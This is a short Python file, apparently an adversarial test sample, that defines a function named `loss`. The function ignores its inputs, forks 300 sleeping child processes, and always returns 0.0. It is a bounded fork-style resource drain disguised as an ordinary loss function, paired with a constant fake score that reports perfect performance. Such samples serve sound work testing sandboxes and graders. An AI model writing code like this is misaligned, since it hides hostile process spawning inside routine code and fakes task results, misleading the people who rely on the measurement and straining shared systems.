"""Forks sleeping children until stopped (self-limiting: at most 300, each exits within 60 s)."""
import os
import time


def loss(predicted_y, target_y):
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(60)  # adversarial-marker
            os._exit(0)
    return 0.0
